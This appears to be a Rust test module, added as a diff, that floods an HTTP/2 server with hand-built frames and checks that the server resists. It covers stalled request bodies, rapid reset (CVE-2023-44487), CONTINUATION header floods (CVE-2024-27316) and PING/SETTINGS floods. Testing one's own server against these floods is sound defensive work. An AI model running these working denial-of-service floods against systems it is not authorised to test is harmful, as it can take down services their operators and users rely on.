@@ -1,0 +1,223 @@
+//! Floods of HTTP/2 frames, made by hand: a client library would not send them.
+
+use anyhow::{Context, ensure};
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    time::{Instant, timeout_at},
+};
+
+use crate::{
+    arena::{Arena, Outcome, a_second},
+    socket::connect_from,
+};
+
+const CONNECTIONS: usize = 10;
+
+/// Frames a second on each connection.
+const RATE: u32 = 200;
+
+/// The same for large ones: few are under way when the server has enough.
+const LARGE_RATE: u32 = 20;
+
+/// The server's limit of streams of a connection.
+const STREAMS: usize = 100;
+
+/// As a head may have 32 KiB, and what is under way.
+const MOST_HEAD: usize = 256 << 10;
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const GOAWAY: u8 = 7;
+const CONTINUATION: u8 = 9;
+
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+
+const CANCEL: u32 = 8;
+
+/// How servers say that something is a flood.
+const ENHANCE_YOUR_CALM: u32 = 11;
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
+    bytes.extend([kind, flags]);
+    bytes.extend(stream.to_be_bytes());
+    bytes.extend(payload);
+    bytes
+}
+
+/// A header block (RFC 7541) whose method is the static table's entry: 2 is GET, 3 is POST.
+fn head(arena: &Arena, method: u8, path: &str, others: &[(&str, &str)]) -> Vec<u8> {
+    let text = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
+    // The scheme http; :path and :authority by their names in the table, never indexed.
+    let mut block = vec![0x80 | method, 0x86];
+    block.extend([&[0x04][..], &text(path), &[0x01], &text(&arena.address.to_string())].concat());
+    for (name, value) in others {
+        block.extend([&[0x00][..], &text(name), &text(value)].concat());
+    }
+    block
+}
+
+/// What happened on a connection.
+#[derive(Default)]
+struct Seen {
+    sent: usize,
+    bytes: usize,
+    answered: usize,
+    reset: usize,
+    /// The code of the server's farewell.
+    farewell: Option<u32>,
+    closed: bool,
+}
+
+impl Seen {
+    /// Takes the whole frames of what was received.
+    fn take(&mut self, received: &mut Vec<u8>) {
+        while let Some(head) = received.first_chunk::<9>() {
+            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
+            let kind = head[3];
+            if received.len() < 9 + length {
+                return;
+            }
+            match kind {
+                HEADERS => self.answered += 1,
+                RST_STREAM => self.reset += 1,
+                GOAWAY => self.farewell = received[13..].first_chunk().map(|code| u32::from_be_bytes(*code)),
+                _ => {}
+            }
+            received.drain(..9 + length);
+        }
+    }
+}
+
+/// Sends these frames on a connection until it is time, or the server has enough.
+async fn flood(
+    arena: &Arena,
+    number: usize,
+    rate: u32,
+    frames: &dyn Fn(usize) -> Vec<u8>,
+    until: Instant,
+) -> anyhow::Result<Seen> {
+    let mut stream = connect_from(arena.source(number), arena.address).await?;
+    stream.set_nodelay(true)?;
+    stream.write_all(PREFACE).await?;
+    let (mut seen, mut received, mut ticks) = (Seen::default(), vec![], a_second(rate));
+    let mut buffer = vec![0; 16 << 10];
+    loop {
+        tokio::select! {
+            _ = ticks.tick() => {
+                let bytes = frames(seen.sent);
+                // A server that has enough reads no more.
+                if let Ok(Ok(())) = timeout_at(until, stream.write_all(&bytes)).await {
+                    (seen.sent, seen.bytes) = (seen.sent + 1, seen.bytes + bytes.len());
+                }
+            }
+            read = timeout_at(until, stream.read(&mut buffer)) => match read {
+                Err(_) => return Ok(seen),
+                Ok(Ok(length)) if length > 0 => {
+                    received.extend(&buffer[..length]);
+                    seen.take(&mut received);
+                }
+                Ok(_) => {
+                    seen.closed = true;
+                    return Ok(seen);
+                }
+            }
+        }
+    }
+}
+
+/// Floods on all connections, opened again when they are closed.
+async fn floods(arena: &Arena, rate: u32, frames: impl Fn(usize) -> Vec<u8>) -> anyhow::Result<Vec<Seen>> {
+    let until = arena.until();
+    let connections = (0..CONNECTIONS).map(|number| {
+        let frames = &frames;
+        async move {
+            let mut seen = vec![];
+            while Instant::now() < until {
+                seen.push(flood(arena, number, rate, frames, until).await?);
+            }
+            anyhow::Ok(seen)
+        }
+    });
+    let seen = futures_util::future::try_join_all(connections).await?;
+    Ok(seen.into_iter().flatten().collect())
+}
+
+fn farewells(seen: &[Seen]) -> String {
+    let ended = seen.iter().filter(|each| each.closed || each.farewell.is_some()).count();
+    let calm = seen.iter().filter(|each| each.farewell == Some(ENHANCE_YOUR_CALM)).count();
+    format!("{ended} of {} connections ended, {calm} as floods", seen.len())
+}
+
+/// Requests whose bodies do not come.
+pub async fn streams(arena: &Arena) -> anyhow::Result<Outcome> {
+    let body = [("stripe-signature", "t=1"), ("content-type", "application/json"), ("content-length", "1000")];
+    let block = head(arena, 3, "/api/backend/stripe/webhook", &body);
+    let seen = floods(arena, RATE, |sent| frame(HEADERS, END_HEADERS, 2 * sent as u32 + 1, &block)).await?;
+    let open = seen.iter().map(|each| each.sent.saturating_sub(each.reset + each.answered)).max().context("none")?;
+    let refused: usize = seen.iter().map(|each| each.reset).sum();
+    let sent: usize = seen.iter().map(|each| each.sent).sum();
+    // What the server has not read yet counts as open here.
+    ensure!(open <= STREAMS + RATE as usize / 10 && refused > 0, "{open} streams on one connection, {refused} refused");
+    Ok(Outcome {
+        reached: format!("{sent} streams; at most {open} open on a connection"),
+        refused: format!("reset {refused}×; {}", farewells(&seen)),
+    })
+}
+
+/// Requests that are cancelled at once (CVE-2023-44487). A server that keeps up has done with each before the next; where
+/// 20 wait, it ends the connection.
+pub async fn resets(arena: &Arena) -> anyhow::Result<Outcome> {
+    let block = head(arena, 2, "/api/auth/check-login", &[]);
+    let seen = floods(arena, RATE, |sent| {
+        let stream = 2 * sent as u32 + 1;
+        let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
+        [request, frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
+    })
+    .await?;
+    let most = seen.iter().map(|each| each.sent).max().context("none")?;
+    let answered: usize = seen.iter().map(|each| each.answered).sum();
+    ensure!(most > STREAMS, "only {most} streams were reset");
+    Ok(Outcome {
+        reached: format!("at most {most} streams reset on a connection; {answered} answers"),
+        refused: farewells(&seen),
+    })
+}
+
+/// Heads that go on in frame after frame (CVE-2024-27316).
+pub async fn continuations(arena: &Arena) -> anyhow::Result<Outcome> {
+    let mut block = head(arena, 2, "/", &[]);
+    // A header, not indexed, of 16,000 bytes.
+    let mut more = vec![0x00, 1, b'x', 0x7f];
+    more.extend([0x81, 0x7c]);
+    more.resize(6 + 16_000, b'y');
+    block.extend(&more);
+    let seen = floods(arena, LARGE_RATE, |sent| match sent {
+        0 => frame(HEADERS, 0, 1, &block),
+        _ => frame(CONTINUATION, 0, 1, &more),
+    })
+    .await?;
+    let bytes = seen.iter().map(|each| each.bytes).max().context("none")?;
+    ensure!(bytes <= MOST_HEAD, "a head had {bytes} bytes");
+    ensure!(seen.iter().any(|each| each.closed || each.farewell.is_some()), "none was ended");
+    Ok(Outcome { reached: format!("at most {} KiB of one head", bytes >> 10), refused: farewells(&seen) })
+}
+
+/// Frames that ask for an answer and belong to no request.
+pub async fn pings(arena: &Arena) -> anyhow::Result<Outcome> {
+    let seen = floods(arena, RATE, |sent| match sent % 2 {
+        0 => frame(PING, 0, 0, &[7; 8]),
+        _ => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
+    })
+    .await?;
+    let sent: usize = seen.iter().map(|each| each.sent).sum();
+    Ok(Outcome {
+        reached: format!("{sent} pings and settings on {} connections", seen.len()),
+        refused: farewells(&seen),
+    })
+}
